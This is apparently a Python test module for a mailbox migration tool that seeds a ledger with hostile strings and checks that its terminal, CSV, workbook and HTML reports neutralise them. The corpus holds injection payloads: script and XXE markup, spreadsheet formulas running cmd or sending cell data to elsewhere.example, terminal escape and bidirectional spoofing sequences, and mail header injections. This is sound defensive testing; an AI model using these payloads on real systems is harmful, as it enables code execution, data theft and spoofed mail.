"""What strangers can write into names, subjects and errors, and what no output of ours may hold.

CORPUS               texts: markup, formulas, escapes, direction, size, broken characters
fill(path)           a ledger with one of them in every place that others can write to
check_terminal(text), check_cells(rows), check_workbook(path), check_page(shown)
"""

from __future__ import annotations

import unicodedata
import zipfile
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING

from lxml import etree

from migrator.errors import ItemError
from migrator.ledger import Fidelity, Ledger
from migrator.model import Folder, ItemRef, Job, Kind, Mailbox, Outcome, Role, SkipReason, State
from tests.report.samples import NOW, FixedClock

if TYPE_CHECKING:
    from tests.report.browser import Shown

MARKUP = (
    "<script>alert(1)</script>",
    "</title></style></textarea><script src=https://elsewhere.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<meta http-equiv=refresh content=0;url=https://elsewhere.example/>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<style>@import 'https://elsewhere.example/'</style>",
    "<base href=https://elsewhere.example/>",
    "<!--<script>-->",
    "]]><![CDATA[<script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}{{ page.__class__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;&#60;script&#62;&amp;",
    "javascript:alert(1)",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '"=1+1',
    'a",=1+1,"b',
    ";=1+1",
    "a\r\n=1+1",
    "https://elsewhere.example/",
    "mailto:x@elsewhere.example",
    "internal:'Sheet'!A1",
    "{=1+1}",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b[31mred",
    "\x1b]0;title\x07\x1b]8;;https://elsewhere.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;Y2FsYw==\x07",
    "\x9b2J\x9d0;x\x9c",
    "\x1bP1$r\x1b\\\x1bc",
    "a\rb\x08\x08\x08c",
    "bell\x07\x00nul\x7f",
    "line\nline\r\nline\x0bline\x0cline\x85line\u2028line\u2029",
    "[red]markup[/red] [link=https://elsewhere.example]x[/link] [/]",
)
DIRECTION = (
    "\u202egpj.exe",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202d",
    "\ufeffbom",
    "exe.\u202efdp",
)
CHARACTERS = (
    "\ud800lone\udfff",
    "\ufffe\uffff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e" + "\u0301" * 200,
    "\u0130\u0131\u00df\ufb03",
    "漢字" * 20,
    "x\u0000",
)
SIZE = ("A" * 10_000, "<b>" * 3_400, "=" * 10_000, "\x1b[31m" * 2_000, "\u202e" * 10_000)
MAIL = (
    "x\r\nBcc: victim@elsewhere.example\r\n\r\n<script>",
    "x\nSubject: other\n\nbody",
    "=?utf-8?q?=0d=0aBcc:_victim@elsewhere.example?=",
    "\r\n.\r\nMAIL FROM:<victim@elsewhere.example>",
    "<!channel> <@U123> <https://elsewhere.example|click>",
    "[click](https://elsewhere.example) ![x](https://elsewhere.example/x.png) <at>all</at>",
)
CORPUS = (*MARKUP, *FORMULAS, *TERMINAL, *DIRECTION, *CHARACTERS, *SIZE, *MAIL)


def fill(path: Path, corpus: Sequence[str] = CORPUS) -> None:
    """One mailbox for each text, with the text in every place that others can write to."""
    with Ledger.open(path, clock=FixedClock()) as ledger:
        jobs = [
            Job(
                id=f"job{number}",
                line=number + 2,
                source=Mailbox("old", f"{text}@old.example"),
                target=Mailbox("new", f"{text}@new.example"),
                batch=text,
                extra={"DisplayName": text, text: text},
            )
            for number, text in enumerate(corpus)
        ]
        ledger.register(jobs)
        run = ledger.start_run("delta", {"note": "x"}, "0.1.0")
        for number, (one, text) in enumerate(zip(jobs, corpus, strict=True)):
            lease = ledger.claim(one.id, run)
            assert lease is not None
            inbox = Folder(id="f1", path=("Inbox", text), total=4, role=Role.INBOX)
            ledger.put_folder(lease, inbox, Folder(id="t1", path=(text,)))
            ledger.put_folder(
                lease, Folder(id="f2", path=(text,), total=2), None, skipped=SkipReason.FILTERED_FOLDER
            )
            refs = [
                ItemRef(
                    id=f"{number}-{item}", folder=inbox.path, kind=Kind.MAIL, version="1", size=1000,
                    item_class=f"IPM.{text}", received=datetime(2024, 1, 31, 12, tzinfo=UTC),
                    message_id=f"<{text}>", subject="SUBJECT " + text,
                )
                for item in range(4)
            ]  # fmt: skip
            ledger.begin(lease, inbox.id, refs).wait()
            ledger.settle(
                lease,
                inbox.id,
                [
                    Outcome(refs[0], State.COPIED, target_id="t" + text, octets=1400, notes=(text,)),
                    Outcome(refs[1], State.FAILED, error=ItemError(text, code="ErrorCorruptData")),
                    Outcome(refs[2], State.SKIPPED, reason=SkipReason.TOO_LARGE),
                    Outcome(refs[3], State.FAILED, error=ItemError(text, code="Error" + text[:40])),
                ],
            ).wait()
            ledger.add_incident(one.id, "throttled", text, NOW + 5)
            ledger.put_fidelity(
                one.id, [Fidelity(Kind.MAIL, "stream", 4, 4, 3, 0, 0, 1, 0, {"lost": {text: 1}})]
            )
            ledger.release(lease, "error", code="quota_full", error=text, remedy=text)
        ledger.finish_run(run, 4)


TURNING = set("\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff")


def check_terminal(text: str, *, colours: bool = False) -> None:
    """Nothing that a terminal obeys or that misleads a reader; it can be written as UTF-8. colours: our own SGR may stand."""
    import re

    if colours:
        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    text.encode("utf-8")
    wrong = {
        char
        for char in text
        if (unicodedata.category(char) in ("Cc", "Cs") and char != "\n") or char in TURNING
    }
    assert not wrong, sorted(map(ascii, wrong))


def check_cells(rows: Iterable[Sequence[str]]) -> int:
    """No cell that a spreadsheet takes for a formula; rows of one width. Returns how many cells there were."""
    count, width = 0, 0
    for row in rows:
        width = width or len(row)
        assert len(row) == width, "a text broke out of its cell"
        for cell in row:
            count += 1
            first = unicodedata.normalize("NFKC", cell[:1])
            assert not (cell[:1] in "=+-@\t\r\n" and cell[:1]), ascii(cell[:80])
            assert first not in ("=", "+", "-", "@"), ascii(cell[:80])
            check_terminal(cell)
    return count


def check_workbook(path: Path) -> int:
    """The file's own XML: whole, no formula, no link, nothing outside; what looks like a formula is text that stays text when
    it is edited (quotePrefix). Returns how many cells hold text."""
    texts = 0
    with zipfile.ZipFile(path) as book:
        assert book.testzip() is None
        trees = {
            name: etree.fromstring(
                book.read(name), etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)
            )
            for name in book.namelist()
            if name.endswith((".xml", ".rels"))
        }
        others = [name for name in book.namelist() if name not in trees]
    assert not [name for name in others if name.endswith((".bin", ".vml"))], others
    for name, tree in trees.items():
        tags = {etree.QName(one).localname for one in tree.iter(etree.Element)}
        assert not tags & {"f", "hyperlink", "externalReference", "ddeLink", "oleLink"}, (name, tags)
        assert not tree.xpath("//*[@TargetMode='External']"), name
    shared = (
        ["".join(one.itertext()) for one in trees["xl/sharedStrings.xml"]]
        if "xl/sharedStrings.xml" in trees
        else []
    )
    quoted = [one.get("quotePrefix") == "1" for one in trees["xl/styles.xml"].find("{*}cellXfs")]
    for name, tree in trees.items():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        for cell in tree.iter("{*}c"):
            kind = cell.get("t")
            if kind not in ("s", "inlineStr", "str"):
                continue
            assert kind != "str", "the result of a formula"
            text = "".join(cell.itertext())
            text = shared[int(text)] if kind == "s" else text
            texts += 1
            check_terminal(text)
            try:
                check_cells([[text]])
            except AssertionError:
                assert quoted[int(cell.get("s", "0"))], (name, cell.get("r"), ascii(text[:80]))
    return texts


def check_page(shown: Shown) -> None:
    shown.poke()
    assert shown.quiet, shown.misdeeds
    names = set(shown.page.evaluate("[...document.querySelectorAll('*')].map(e => e.tagName.toLowerCase())"))
    assert not names & {
        "script",
        "img",
        "iframe",
        "object",
        "embed",
        "link",
        "base",
        "form",
        "input",
        "audio",
        "video",
    }, names
    handlers = shown.page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    )
    assert handlers == []
    assert shown.overflow == 0
    check_terminal(shown.text.replace("\r", ""))
